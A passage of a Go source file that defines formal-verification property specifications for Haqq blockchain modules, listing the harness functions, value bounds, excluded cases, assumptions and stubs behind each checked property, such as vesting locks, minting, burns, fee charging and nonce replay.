			"quick":    "lockup schedules of <= 3 periods (split and liquid-schedule construction), amounts in [0,2^100), subtrahend in [0,2^100), start in [0,2^60], lengths in [0,2^56], liquidation and read times in [0,2^61]; keeper level (inductive step from an arbitrary module state satisfying the backing invariant: one existing liquid token with a symbolic schedule, partly held as ERC20 tokens, arbitrary module surplus): one Liquidate from a clawback account with <= 2 lockup periods, one Redeem of a 1-period token to oneself / a plain EVM account / an existing clawback account with its own 1-period schedule, and of a 2-period token to a plain EVM account; start times in [0,2^40], lengths in [1,2^36], amounts < 2^100, every observation instant; redeem of a liquid token with 3 periods (zero-amount periods, also consecutive ones, included) into an existing vesting account",
			"thorough": "split up to 5 periods, liquid-schedule construction up to 4 periods; Liquidate with 3 lockup periods, Redeem of a 2-period token and into a 2-period account; same value ranges",
		},
		Outside:     []string{"sequences of more than one Liquidate/Redeem are covered only through the inductive invariant (escrow = total liquid supply, recorded schedule sums to supply), not enumerated", "the ERC20 side is a 1:1 escrow ledger (the real conversion is C10's subject)", "delegated coins of the recipient (staking getters return zero)", "more periods than the bound", "liquidation at or before the schedule start (rejected by Liquidate because nothing is vested then)"},
		Assumptions: []string{"theory summaries of sdk.Coins / math.Int", "the composition of Liquidate's schedule computation is replayed in the harness with the same calls in the same order (ExtractUpcomingPeriods, SubtractAmountFromPeriods, ReplacePeriodsTail, CurrentPeriodShift)", "keeper harness: bank / account / ERC20 keepers are ledgers behind the module's own interfaces (the bank ledger enforces LockedCoins on account debits), the vesting keeper is the real one, SDK staking getters GetDelegatorBonded/Unbonding/BondDenom overridden"},
		Stubs: []string{"c11Bank", "c11AK", "c11ERC20", "zzverif.MemStore"},
	}
	ck := func(fn string, kv ...string) Inst { return Inst{Pkg: "x/coinomics/keeper", Fn: fn, Params: pm(kv...)} }
	m["C13"] = &PropSpec{
		ID: "C13", Pkgs: []string{"./x/coinomics/keeper", "./x/coinomics", "./app"},
		Quick:    []Inst{ck("VerifC13_Mint"), ck("VerifC13_Disabled"), ck("VerifC13_Reactivation"), ck("VerifC13_ParamsAdmitMint"), {Pkg: "x/coinomics", Fn: "VerifC19_Coinomics", Params: pm()}, {Pkg: "x/coinomics", Fn: "VerifC13_ModuleEndBlock", Params: pm(), EngineReplay: true}},
		Thorough: []Inst{ck("VerifC13_Mint", "years", "all"), ck("VerifC13_Disabled"), ck("VerifC13_Reactivation"), ck("VerifC13_ParamsAdmitMint"), {Pkg: "x/coinomics", Fn: "VerifC19_Coinomics", Params: pm()}, {Pkg: "x/coinomics", Fn: "VerifC13_ModuleEndBlock", Params: pm(), EngineReplay: true}},
		Wiring: []WiringFact{{Kind: "order", Fn: "github.com/haqq-network/haqq/app.NewHaqq", Callee: "(*github.com/cosmos/cosmos-sdk/types/module.Manager).SetOrderEndBlockers", Want: "staking<coinomics",
			Why: "the mint step reads the bonded total in the coinomics end blocker: it must run after the staking end blocker, which moves tokens between the bonded and not-bonded pools when the validator set changes (otherwise the block mints on a stale bonded total)", ProbePkg: "app", ProbeTest: "TestVerifWiringC13"}},
		Bounds: map[string]string{
			"quick":    "one EndBlocker step from an arbitrary state: bonded, supply, max supply in [0,2^100), reward coefficient any Dec in [0,100], previous timestamp in [0,2^45) ms, block time anywhere inside each of the calendar years {1970,1999,2000,2023,2024,2100,2104,2200,2300,2399}; two-step history disable -> enable; block sequences across a restart: export / import of the module state keeps the previous block timestamp, the maximum supply and the parameters (VerifC19_Coinomics, as C19), so the step after a restart is the step above from the same state; every reward coefficient in [-100,100] that the real Params.Validate accepts: an enabled block below the cap records its timestamp and mints a non-negative amount; module boundary: AppModule.EndBlock leaves minted amount, previous-block timestamp and enabled flag exactly as the keeper's end blocker does, from any state (coefficient 0 and disabled included)",
			"thorough": "same with the block time anywhere inside every calendar year 1970..2399",
		},
		Outside:     []string{"block times after 2400 or before 1970", "distribution of the fee collector balance by x/distribution", "histories longer than two steps (single-step facts are inductive: they are proved from an arbitrary pre-state)"},
		Assumptions: []string{"bank stub moves coins exactly as asked (conservation by construction)", "staking stub returns an arbitrary bonded amount", "legacy param subspace modelled as one typed blob", "LegacyDec theory (Mul/Quo with banker's rounding)"},
		Stubs:       []string{"c13Bank", "c13Staking", "zzverif.MemStore", "zzverif param subspace"},
	}
	dk := func(fn string, kv ...string) Inst { return Inst{Pkg: "x/ucdao/keeper", Fn: fn, Params: pm(kv...)} }
	m["C12"] = &PropSpec{
		ID: "C12", Pkgs: []string{"./x/ucdao/keeper", "./app"},
		Quick:    []Inst{dk("VerifC12_Fund", "accounts", "2"), dk("VerifC12_Transfer", "accounts", "2"), dk("VerifC12_Fund", "accounts", "2", "prefix", "1"), dk("VerifC12_Transfer", "accounts", "2", "prefix", "1"), dk("VerifC12_Transfer", "accounts", "2", "longaddr", "1"), {Pkg: "app", Fn: "VerifC12_DaoAccountBlocked", Params: pm()}},
		Thorough: []Inst{dk("VerifC12_Fund", "accounts", "3"), dk("VerifC12_Transfer", "accounts", "3"), dk("VerifC12_Fund", "accounts", "3", "prefix", "1"), dk("VerifC12_Transfer", "accounts", "2", "prefix", "1"), dk("VerifC12_Transfer", "accounts", "3", "longaddr", "1"), dk("VerifC12_Fund", "accounts", "2", "longaddr", "1"), {Pkg: "app", Fn: "VerifC12_DaoAccountBlocked", Params: pm()}},
		Bounds: map[string]string{
			"quick":    "one message (Fund / TransferOwnership / WithRatio / WithAmount, any signer and recipient incl. the same account) from an arbitrary ledger satisfying the invariant over 2 accounts x 2 denominations; balances, wallet funds in [0,2^100), message amounts any 256-bit integer (zero and negative entries included), ratio any Dec in [-1,2]; the same with the denomination universe {aLIQUID1, aLIQUID10} (one a string prefix of the other) and, for transfers, with one holder being a 32-byte address whose last 20 bytes are another holder's address; application wiring: the real BlockedAddrs() of the application contains the ucdao module account (and every registered module account), so MsgFund is the only way coins enter it",
			"thorough": "same over 3 accounts x 2 denominations",
		},
		Outside:     []string{"more accounts or denominations than the bound (the step is proved from an arbitrary invariant state, so longer histories over the bounded universe are covered)", "state left by a failing message (rolled back by the SDK: stated, not proved)", "queries / pagination"},
		Assumptions: []string{"bank stub moves coins exactly as asked and refuses overdrafts", "codec / math.Int.Marshal modelled as typed blobs", "SDK prefix.Store executed for real on the in-memory store"},
		Stubs:       []string{"c12Bank", "zzverif.MemStore"},
	}
	m["C08"] = &PropSpec{
		ID: "C08", Pkgs: []string{"./x/vesting/types", "./x/staking/keeper", "./x/vesting/keeper", "./app/ante/evm", "./precompiles/staking", "./x/evm/keeper"},
		Quick: []Inst{vt("VerifC08_LockedCoins", "nl", "2", "nv", "2"), vt("VerifC08_LockedCoins", "nl", "1", "nv", "2", "denoms", "2"), vt("VerifC09_Clawback", "nl", "2", "nv", "2"),
			{Pkg: "x/staking/keeper", Fn: "VerifC08_Delegate", Params: pm("nv", "2")}, vk("VerifC09_MergeGrant", "lock", "2", "glock", "2"), vk("VerifC09_ClawbackMsg"), {Pkg: "app/ante/evm", Fn: "VerifC08_EthAnte", Params: pm("msgs", "2")},
			{Pkg: "precompiles/staking", Fn: "VerifC08_PrecompileDelegate", Params: pm("nv", "2"), EngineReplay: true}, {Pkg: "precompiles/staking", Fn: "VerifC08_PrecompileCreateValidator", Params: pm(), EngineReplay: true}, {Pkg: "x/evm/keeper", Fn: "VerifC08_SelfDestructOfVestingContract", Params: pm(), EngineReplay: true}},
		Wiring: []WiringFact{
			{Kind: "calls", Fn: "(github.com/haqq-network/haqq/precompiles/staking.Precompile).Delegate", Callee: "github.com/haqq-network/haqq/x/staking/keeper.NewMsgServerImpl",
				Why: "the staking precompile must delegate through Haqq's message-server wrapper (which refuses unvested coins), not through the SDK's"},
			{Kind: "calls", Fn: "(github.com/haqq-network/haqq/precompiles/staking.Precompile).CreateValidator", Callee: "github.com/haqq-network/haqq/x/staking/keeper.NewMsgServerImpl",
				Why: "the staking precompile must self-bond through Haqq's message-server wrapper (which refuses unvested coins), not through the SDK's"},
		},
		Thorough: []Inst{{Pkg: "precompiles/staking", Fn: "VerifC08_PrecompileDelegate", Params: pm("nv", "3"), EngineReplay: true}, {Pkg: "app/ante/evm", Fn: "VerifC08_EthAnte", Params: pm("msgs", "3")}, vt("VerifC08_LockedCoins", "nl", "3", "nv", "3"), vt("VerifC08_LockedCoins", "nl", "2", "nv", "2", "denoms", "2"), vt("VerifC09_Clawback", "nl", "3", "nv", "3"),
			{Pkg: "x/staking/keeper", Fn: "VerifC08_Delegate", Params: pm("nv", "4")}, {Pkg: "x/evm/keeper", Fn: "VerifC08_SelfDestructOfVestingContract", Params: pm(), EngineReplay: true}, {Pkg: "precompiles/staking", Fn: "VerifC08_PrecompileCreateValidator", Params: pm(), EngineReplay: true}},
		Bounds: map[string]string{
			"quick":    "LockedCoins and post-clawback locking for accounts with <= 2 lockup and <= 2 vesting periods (1-2 denoms), arbitrary tracked delegations, arbitrary block time; delegation wrapper: <= 2 vesting periods, arbitrary balance/amount/time, Delegate and CreateValidator; the locked amount after merging a grant (real addGrant) and after the Clawback message, at every instant; the eth-route vesting pre-check over <= 2 messages of one clawback account (2+2 period schedule, tracked delegation, any balance and values): accepted <=> total value <= balance - locked (two-sided); the staking precompile's delegate with Haqq's real message-server wrapper behind it (2 vesting periods, any balance / amount / time): the SDK server is reached only within balance - unvested; SELFDESTRUCT of a contract whose address holds a clawback vesting account (keeper DeleteAccount over a bank that enforces LockedCoins of the stored account): the deletion succeeds only when nothing is locked, a refused one changes nothing",
			"thorough": "<= 3 + 3 periods; delegation wrapper <= 4 vesting periods",
		},
		Outside: []string{"that the SDK bank keeper refuses debits beyond balance - LockedCoins on every path (SDK code; the property reduces to LockedCoins being right, which is what is decided)", "the EVM debit path itself (x/evm SetBalance -> bank SendCoinsFromAccountToModule: SDK bank code)", "messages of several different vesting accounts in one transaction", "delegation through grants (ends in the same message server; the precompile path is executed)"},
		Assumptions: []string{"staking BondDenom stubbed to aISLM", "account/bank keepers are harness stubs returning the symbolic account and balance"},
		Stubs:       []string{"c08AK", "c08BK", "c08Inner (records what reaches the SDK staking server)"},
	}
	m["C14"] = &PropSpec{
		ID: "C14", Pkgs: []string{"./x/bank/keeper", "./app", "./x/staking/keeper"},
		Wiring: []WiringFact{
			{Fn: "github.com/haqq-network/haqq/app.NewHaqq", Callee: "github.com/cosmos/cosmos-sdk/x/gov/keeper.NewKeeper", Arg: 3, Want: "*github.com/haqq-network/haqq/x/bank/keeper.BaseKeeper",
				Why: "the gov keeper must burn deposits through Haqq's bank keeper wrapper", ProbePkg: "app", ProbeTest: "TestVerifWiringC14"},
			{Fn: "github.com/haqq-network/haqq/app.NewHaqq", Callee: "github.com/haqq-network/haqq/x/staking/keeper.NewKeeper", Arg: 3, Want: "*github.com/haqq-network/haqq/x/bank/keeper.BaseKeeper",
				Why: "the staking keeper must burn slashed stake through Haqq's bank keeper wrapper", ProbePkg: "app", ProbeTest: "TestVerifWiringC14"},
			{Kind: "param", Fn: "github.com/haqq-network/haqq/x/staking/keeper.NewKeeper", Callee: "github.com/cosmos/cosmos-sdk/x/staking/keeper.NewKeeper", Arg: 3, Want: "bk",
				Why: "Haqq's staking keeper wrapper must hand the bank keeper it was given to the SDK staking keeper unchanged (no adapter in between)", ProbePkg: "app", ProbeTest: "TestVerifWiringC14"},
		},
		Quick:    []Inst{{Pkg: "x/bank/keeper", Fn: "VerifC14_Burn", Params: pm()}},
		Thorough: []Inst{{Pkg: "x/bank/keeper", Fn: "VerifC14_Burn", Params: pm()}},
		Bounds: map[string]string{
			"quick":    "one BurnCoins call by each of 6 module names {gov, bonded, not-bonded, distribution, erc20, coinomics} with an arbitrary amount over 2 denominations from arbitrary module balances (< 2^100) and an arbitrary community pool (< 2^160 raw)",
			"thorough": "same (single step is fully symbolic in the values)",
		},
		Outside:     []string{"which SDK code paths call BurnCoins (slash of bonded / unbonding / redelegating stake, vetoed or failed proposals): SDK staking/gov code; the property reduces to what BurnCoins does for their module names", "the wiring of the overriding keeper into staking/gov in app.go (construction-time fact)"},
		Assumptions: []string{"SDK bank SendCoinsFromModuleToModule / BurnCoins replaced by a ledger stub with the documented contract (conservation, overdraft refused); natively the real SDK bank keeper is used, so validation traces compare the stub with the real thing"},
		Stubs:       []string{"c14State (bank ledger)", "zzverif.MemStore", "blob codec"},
	}
	c19 := []Inst{{Pkg: "x/coinomics", Fn: "VerifC19_Coinomics", Params: pm()}, {Pkg: "x/feemarket", Fn: "VerifC19_Feemarket", Params: pm()},
		{Pkg: "x/liquidvesting", Fn: "VerifC19_Liquidvesting", Params: pm("denoms", "2", "periods", "2")}, {Pkg: "x/ucdao/keeper", Fn: "VerifC19_Ucdao", Params: pm("accounts", "3"), EngineReplay: true},
		{Pkg: "x/evm", Fn: "VerifC19_Evm", Params: pm("accounts", "1")}, {Pkg: "x/evm", Fn: "VerifC19_Evm", Params: pm("accounts", "2", "varyParams", "0", "vals", "1")}, {Pkg: "x/erc20", Fn: "VerifC19_Erc20", Params: pm(), EngineReplay: true}}
	c19t := []Inst{{Pkg: "x/coinomics", Fn: "VerifC19_Coinomics", Params: pm()}, {Pkg: "x/feemarket", Fn: "VerifC19_Feemarket", Params: pm()},
		{Pkg: "x/liquidvesting", Fn: "VerifC19_Liquidvesting", Params: pm("denoms", "3", "periods", "3")}, {Pkg: "x/ucdao/keeper", Fn: "VerifC19_Ucdao", Params: pm("accounts", "3"), EngineReplay: true},
		{Pkg: "x/evm", Fn: "VerifC19_Evm", Params: pm("accounts", "2")}, {Pkg: "x/erc20", Fn: "VerifC19_Erc20", Params: pm(), EngineReplay: true}}
	m["C19"] = &PropSpec{
		ID: "C19", Pkgs: []string{"./x/coinomics", "./x/feemarket", "./x/liquidvesting", "./x/ucdao/keeper", "./x/evm", "./x/erc20"}, Quick: c19, Thorough: c19t,
		Bounds: map[string]string{
			"quick":    "coinomics, fee market, liquid vesting (<= 2 denoms x 2 periods), UC DAO (2 accounts x 2 denominations): arbitrary module state S (every stored entry independently present/absent, every integer symbolic), Export(Init(Export(S))) compared field by field with Export(S) and through the keeper getters; x/evm: <= 2 EVM accounts (3 code shapes incl. none, 2 storage slots each absent or one of 3 values, a plain account interleaved, 4 parameter switches) - every combination enumerated as paths, compared through GetCode/GetState and the exported document; x/erc20: every subset of 3 token pairs (coin-, ERC20- and IBC-denominated), each enabled or not, module- or externally owned, both parameters - compared field by field and through the lookups by denomination and by contract address",
			"thorough": "liquid vesting <= 3 denoms x 3 periods, UC DAO 3 accounts, x/evm 2 accounts with all parameter switches",
		},
		Outside:     []string{"x/evm beyond the bounded shapes (large code, many slots; the x/evm harness has concrete inputs after the symbolic choice: exhaustive enumeration of the bounded space), vesting accounts in x/auth, x/epochs (its InitGenesis re-anchors start height/time by design), app/export.go zero-height preparation", "protobuf/JSON encoding of the genesis document (typed blobs)"},
		Assumptions: []string{"codec and gogoproto Marshal/Unmarshal are an inverse pair on typed blobs", "legacy param subspace = one typed blob", "types/query.Paginate replaced by an equivalent whose default page size is 2 instead of 100, so that state larger than one default page is within the bounds (ucdao: 3 holders)"},
		Stubs:       []string{"zzverif.MemStore", "c19AK (account keeper returning module accounts)"},
	}
	an := func(kv ...string) Inst { return Inst{Pkg: "app/ante", Fn: "VerifC06_Routes", Params: pm(kv...)} }
	m["C06"] = &PropSpec{
		ID: "C06", Pkgs: []string{"./app/ante", "./app/ante/evm", "./app/ante/cosmos"},
		Quick:    []Inst{an("depth", "2", "width", "2", "top", "2"), an("depth", "8", "width", "1", "top", "1"), {Pkg: "app/ante/evm", Fn: "VerifC06_EthRouteTypes", Params: pm()}, {Pkg: "app/ante", Fn: "VerifC06_ExtensionOptions", Params: pm("max", "3")}, {Pkg: "app/ante/evm", Fn: "VerifC06_EthExtensionOptions", Params: pm("max", "3"), EngineReplay: true}, {Pkg: "app/ante/cosmos", Fn: "VerifC06_Eip712ExtensionOptions", Params: pm("max", "3"), EngineReplay: true}, {Pkg: "app/ante", Fn: "VerifAnteRouteComposition", Params: pm(), EngineReplay: true}},
		Thorough: []Inst{an("depth", "2", "width", "2", "top", "2"), an("depth", "3", "width", "2", "top", "1"), an("depth", "9", "width", "1", "top", "2"), {Pkg: "app/ante/evm", Fn: "VerifC06_EthRouteTypes", Params: pm()}, {Pkg: "app/ante", Fn: "VerifC06_ExtensionOptions", Params: pm("max", "4")}, {Pkg: "app/ante/evm", Fn: "VerifC06_EthExtensionOptions", Params: pm("max", "4"), EngineReplay: true}, {Pkg: "app/ante/cosmos", Fn: "VerifC06_Eip712ExtensionOptions", Params: pm("max", "4"), EngineReplay: true}, {Pkg: "app/ante", Fn: "VerifAnteRouteComposition", Params: pm(), EngineReplay: true}},
		Bounds: map[string]string{
			"quick":    "every transaction of <= 2 top-level messages, nesting depth <= 2 with <= 2 children per MsgExec (7 node kinds: exec, grant of eth / vesting-create / send, MsgEthereumTx, MsgCreateVestingAccount, MsgSend), plus single chains nested up to depth 8 (beyond the cap of 7); every list of <= 2 extension options over {eth, web3, dynamic-fee, unknown}; on the Cosmos route (handler built with the application's extension-option checker) every list of <= 3 options after a leading dynamic-fee option: rejected exactly when some option is not the supported one; on the Ethereum route (EthValidateBasicDecorator) and on the legacy EIP-712 route (the real VerifySignature prelude) every list of <= 3 options after the route-selecting one: accepted only when it is the single option; route composition: the real chain constructors put the message blocker, the authz limiter, the extension-option checks and the per-route validation decorators on each route",
			"thorough": "additionally depth 3 x width 2 (1 top-level message) and chains to depth 9 with 2 top-level messages",
		},
		Outside:     []string{"the type assertions inside the individual eth-route decorators (they need keeper stubs; planned with the eth ante harnesses)", "wider / deeper forests than the bound", "decorators after the blocking ones (they can only reject more)"},
		Assumptions: []string{"message type URLs come from the generated RegisterType calls (extracted statically)", "codectypes.Any packing keeps the cached value (real SDK code executed)", "all inputs are concrete after the symbolic choice: this check is exhaustive path enumeration over the bounded forest space, stated as such"},
	}
	et := func(fn string) Inst { return Inst{Pkg: "x/evm/types", Fn: fn, Params: pm()} }
	m["C18"] = &PropSpec{
		ID: "C18", Pkgs: []string{"./x/evm/types"},
		Quick: []Inst{et("VerifC18_RoundTrip"), et("VerifC18_Fees"), et("VerifC18_RecordedHash"), et("VerifC18_UnwrapKeepsRecordedHashes")}, Thorough: []Inst{et("VerifC18_RoundTrip"), et("VerifC18_Fees"), et("VerifC18_RecordedHash"), et("VerifC18_UnwrapKeepsRecordedHashes")},
		Bounds: map[string]string{
			"quick":    "legacy, access-list and dynamic-fee transactions: nonce, gas any uint64; value, gas price / tip / fee cap, r, s any integer in [0,2^256); v, chain id in [0,2^64); data of 0..2 symbolic bytes; access lists {nil, empty, 1 tuple x 1 key, 3 tuples x (2,1,0) keys}; contract creation and call; base fee in [0,2^200); recorded hash: for one transaction of each type, a message whose Hash string is the canonical hash or one of four other spellings (upper case, no 0x prefix, over-long with the hash as suffix, all zero) passes ValidateBasic only when the string is exactly the canonical Ethereum hash",
			"thorough": "same",
		},
		Outside:     []string{"BuildTx -> TxEncoder -> TxDecoder (protobuf Any packing and generated marshal code: typed blobs here)", "hash and sender recovery (RLP, keccak, secp256k1): functions of exactly the compared fields, not re-derived", "longer data / access lists than the bound"},
		Assumptions: []string{"big.Int theory; (*big.Int).Bytes / SetBytes as an inverse pair with the empty string for zero", "codectypes.Any keeps the cached value; proto.Marshal is a typed blob", "(*Transaction).Hash stubbed (uninterpreted)"},
	}
	m["C07"] = &PropSpec{
		ID: "C07", Pkgs: []string{"./x/evm/keeper", "./app/ante/evm", "./app/ante/cosmos", "./app/ante"},
		Quick: []Inst{{Pkg: "x/evm/keeper", Fn: "VerifC07_GasUsed", Params: pm(), EngineReplay: true}, {Pkg: "x/evm/keeper", Fn: "VerifC07_VerifyFee", Params: pm()},
			{Pkg: "app/ante/evm", Fn: "VerifC07_EthFloor", Params: pm("msgs", "2")}, {Pkg: "app/ante/cosmos", Fn: "VerifC07_CosmosFloor", Params: pm()}, {Pkg: "app/ante/evm", Fn: "VerifC07_EachSenderPaysItsOwnFee", Params: pm("msgs", "2")}, {Pkg: "app/ante/cosmos", Fn: "VerifC07_CosmosCharged", Params: pm()}, {Pkg: "app/ante", Fn: "VerifAnteRouteComposition", Params: pm(), EngineReplay: true}},
		Thorough: []Inst{{Pkg: "x/evm/keeper", Fn: "VerifC07_GasUsed", Params: pm(), EngineReplay: true}, {Pkg: "x/evm/keeper", Fn: "VerifC07_VerifyFee", Params: pm()},
			{Pkg: "app/ante/evm", Fn: "VerifC07_EthFloor", Params: pm("msgs", "3")}, {Pkg: "app/ante/cosmos", Fn: "VerifC07_CosmosFloor", Params: pm()}, {Pkg: "app/ante/evm", Fn: "VerifC07_EachSenderPaysItsOwnFee", Params: pm("msgs", "2")}, {Pkg: "app/ante/cosmos", Fn: "VerifC07_CosmosCharged", Params: pm()}, {Pkg: "app/ante", Fn: "VerifAnteRouteComposition", Params: pm(), EngineReplay: true}},
		Bounds: map[string]string{
			"quick":    "one message call or contract creation through the real ApplyMessageWithConfig + RefundGas with the EVM interpreter stubbed to an arbitrary outcome (gas limit < 2^62, any leftover, refund counter, VM error, intrinsic gas; multiplier any Dec in [0,1]; price < 2^128); VerifyFee for legacy and dynamic-fee data; eth min-gas-price decorator over <= 2 messages; Cosmos min-gas-price decorator over 5 fee shapes; eth gas-consume decorator on <= 2 messages from up to 2 different senders (any gas, prices, base fee): every sender is charged exactly gasLimit x effective price of its own messages; Cosmos route, what is charged: MinGasPriceDecorator followed by the dynamic fee checker (with or without the dynamic-fee extension option, any base fee < 2^64, minimum gas price, declared fee < 2^120, max priority price, gas in {1, 3, 21000, 1000003}): accepted => charged >= gas x whole-unit minimum gas price and <= the declared fee",
			"thorough": "eth min-gas-price decorator over <= 3 messages",
		},
		Outside:     []string{"EthGasConsumeDecorator / DeductTxCostsFromUserBalance (SDK DeductFees): the deduction amount is VerifyFee's result, which is decided", "multi-message transactions through ApplyTransaction (hooks, bloom, receipts)", "what the real interpreter returns (go-ethereum): any outcome within its contract is covered"},
		Assumptions: []string{"(*vm.EVM).Call / Create, Keeper.NewEVM, GetEthIntrinsicGas replaced by a stub: leftover <= gas given, arbitrary error, arbitrary refund counter", "the up-front deduction of gasLimit x price sits in the fee collector (ante handler, decided separately by VerifyFee)", "bank stub moves coins exactly as asked", "GasUsed counterexamples are confirmed by concrete re-execution in the SSA interpreter (a native build cannot stub the EVM)"},
		Stubs:       []string{"c07NewEVM/c07Call/c07Create/c07Intrinsic", "c07Bank", "c07FeeMarket", "vEVMKeeper", "vFeeMarket"},
	}
	m["C03"] = &PropSpec{
		ID: "C03", Pkgs: []string{"./app/ante/evm", "./app/ante/cosmos", "./x/evm/keeper", "./ethereum/eip712", "./x/vesting/keeper", "./x/bank/keeper", "./app/ante"},
		Quick:    []Inst{{Pkg: "app/ante/evm", Fn: "VerifC03_Nonce", Params: pm("msgs", "3")}, {Pkg: "app/ante/cosmos", Fn: "VerifC03_Eip712Sequence", Params: pm(), EngineReplay: true},
			{Pkg: "app/ante/evm", Fn: "VerifC03_EthChainID", Params: pm(), EngineReplay: true}, {Pkg: "x/evm/keeper", Fn: "VerifC03_ExecutionKeepsSequence", Params: pm(), EngineReplay: true},
			{Pkg: "ethereum/eip712", Fn: "VerifC03_Eip712DirectCoverage", Params: pm(), EngineReplay: true}, {Pkg: "app/ante/cosmos", Fn: "VerifC03_Eip712LegacyCoverage", Params: pm(), EngineReplay: true}, {Pkg: "x/vesting/keeper", Fn: "VerifC03_ScheduleKeepsAccountIdentity", Params: pm(), EngineReplay: true}, {Pkg: "x/bank/keeper", Fn: "VerifC03_BankSendKeepsRecipientAccount", Params: pm(), EngineReplay: true}, {Pkg: "app/ante", Fn: "VerifAnteRouteComposition", Params: pm(), EngineReplay: true}},
		Thorough: []Inst{{Pkg: "app/ante/evm", Fn: "VerifC03_Nonce", Params: pm("msgs", "4")}, {Pkg: "app/ante/cosmos", Fn: "VerifC03_Eip712Sequence", Params: pm(), EngineReplay: true},
			{Pkg: "app/ante/evm", Fn: "VerifC03_EthChainID", Params: pm(), EngineReplay: true}, {Pkg: "x/evm/keeper", Fn: "VerifC03_ExecutionKeepsSequence", Params: pm(), EngineReplay: true},
			{Pkg: "ethereum/eip712", Fn: "VerifC03_Eip712DirectCoverage", Params: pm(), EngineReplay: true}, {Pkg: "app/ante/cosmos", Fn: "VerifC03_Eip712LegacyCoverage", Params: pm(), EngineReplay: true}, {Pkg: "x/vesting/keeper", Fn: "VerifC03_ScheduleKeepsAccountIdentity", Params: pm(), EngineReplay: true}, {Pkg: "x/bank/keeper", Fn: "VerifC03_BankSendKeepsRecipientAccount", Params: pm(), EngineReplay: true}, {Pkg: "app/ante", Fn: "VerifAnteRouteComposition", Params: pm(), EngineReplay: true}},
		Bounds: map[string]string{
			"quick":    "Ethereum transactions of <= 3 messages by 2 senders in any interleaving (legacy and dynamic-fee), any nonces, any account sequences < 2^62; immediate replay of the accepted transaction; chain binding on the Ethereum route: one legacy (any v < 2^40), access-list or dynamic-fee (any chain id < 2^40) transaction through the signature decorator with go-ethereum's signer selection and chain-id check executed, AllowUnprotectedTxs on/off; execution (real ApplyMessageWithConfig, call or contract creation, any interpreter outcome, 0-3 later messages of the same transaction already accepted by the ante handler) leaves the sender's sequence exactly where the ante handler put it; EIP-712 over a SIGN_MODE_DIRECT sign doc (one bank message, any memo / timeout height / fee / payer / granter / sequence / account number, extension options of either kind): accepted => every such field reaches the sign bytes; legacy EIP-712 (Web3Tx) route: the real VerifySignature hands a different payload to the typed-data construction (or refuses) for any two transactions differing in exactly one of {fee amount, gas, fee granter set / removed / replaced, memo, timeout height, message, sequence, account number, chain id}; account identity across ApplyVestingSchedule (conversion of a plain account, merge into a vesting account; any sequence / account number): address, sequence, account number and public key are kept; bank send wrapper on the ERC20-pair path (honest token): an existing recipient keeps sequence, account number and key, an absent one is created at sequence 0",
			"thorough": "<= 4 messages",
		},
		Outside:     []string{"signature validity (keccak-256, RLP, secp256k1 recovery, EIP-712 typed-data hashing): cannot be encoded for an SMT solver within reach", "that a signature verifies only for the exact signed content (inside VerifySignature / go-ethereum)", "the plain Cosmos route (SDK SigVerificationDecorator) and the non-legacy EIP-712 path"},
		Assumptions: []string{"account keeper stub holding BaseAccounts", "sequences only grow (each accepted message increments), so rejection right after acceptance extends to every later state"},
		Stubs:       []string{"vAK"},
	}
	sd := func(fn string, kv ...string) Inst { return Inst{Pkg: "x/evm/statedb", Fn: fn, Params: pm(kv...)} }
	m["C05"] = &PropSpec{
		ID: "C05", Pkgs: []string{"./x/evm/statedb", "./precompiles/staking", "./x/evm/keeper", "./precompiles/distribution"},
		Quick: []Inst{sd("VerifC05_StateDB", "ops", "3", "kinds", "tsdf"), sd("VerifC05_StateDB", "ops", "4", "kinds", "sfc", "addrs", "2", "vals", "2"), sd("VerifC05_StateDB", "ops", "3", "kinds", "tfc", "amts", "1"),
			{Pkg: "precompiles/staking", Fn: "VerifC05_PrecompileRevert", Params: pm(), EngineReplay: true}, {Pkg: "precompiles/staking", Fn: "VerifC04_RunAtomic", Params: pm(), EngineReplay: true}, {Pkg: "precompiles/distribution", Fn: "VerifC05_DistributionRunAtomic", Params: pm(), EngineReplay: true}, {Pkg: "x/evm/keeper", Fn: "VerifC05_ApplyTransaction", Params: pm(), EngineReplay: true}, {Pkg: "x/evm/keeper", Fn: "VerifC05_KeeperWriteBack", Params: pm(), EngineReplay: true}},
		Thorough: []Inst{sd("VerifC05_StateDB", "ops", "3", "kinds", "tsdfc"), sd("VerifC05_StateDB", "ops", "4", "kinds", "sfc", "addrs", "2", "vals", "2"), sd("VerifC05_StateDB", "ops", "4", "kinds", "tfc", "amts", "1"),
			sd("VerifC05_StateDB", "ops", "4", "kinds", "sdf", "addrs", "2", "vals", "2"), {Pkg: "precompiles/staking", Fn: "VerifC05_PrecompileRevert", Params: pm(), EngineReplay: true}, {Pkg: "precompiles/staking", Fn: "VerifC04_RunAtomic", Params: pm(), EngineReplay: true}, {Pkg: "precompiles/distribution", Fn: "VerifC05_DistributionRunAtomic", Params: pm(), EngineReplay: true},
			{Pkg: "x/evm/keeper", Fn: "VerifC05_ApplyTransaction", Params: pm(), EngineReplay: true}, {Pkg: "x/evm/keeper", Fn: "VerifC05_KeeperWriteBack", Params: pm(), EngineReplay: true}},
		Bounds: map[string]string{
			"quick":    "every program of <= 3 state operations (value transfer, SSTORE, SELFDESTRUCT, nested call frame that returns or reverts, depth <= 2) over 3 accounts x 2 slots; plus the focused families of 4 operations {SSTORE, frame, mid-transaction Commit} over 2 accounts and 3 operations {transfer, frame, mid-transaction Commit}; all operand choices enumerated; one inner frame that calls staking approve / revoke / delegate (real method bodies, symbolic amounts and pre-existing grant) and then reverts or returns, compared with the Cosmos-side state (grant store, bonded pool, delegator balance) before the frame; transaction level: the real ApplyTransaction (call or creation, any interpreter outcome, post-processing hook succeeding or failing) with an interpreter that writes a storage slot and a Cosmos-side record into the StateDB's context: both persist exactly when the transaction succeeds; keeper write-back: SetAccount with any nonce (also lower than the stored one), balance < 2^128 and code hash over an absent or existing account is read back exactly by GetAccount; the real staking and distribution Precompile.Run with the SDK gas meter running out at any Cosmos-side write (staking: delegate / undelegate under a limited grant; distribution: withdrawDelegatorRewards / claimRewards / setWithdrawAddress with a two-write payout): a failed call leaves the Cosmos-side state as it was",
			"thorough": "all five operation kinds with 3 operations; the focused families with 4 operations",
		},
		Outside:     []string{"Cosmos-side effects of the distribution and ICS-20 precompiles (same structure as the staking ones decided here: direct writes to the SDK context)", "gas, contract bytecode (the harness is the call tree)", "longer programs / deeper nesting than the bound"},
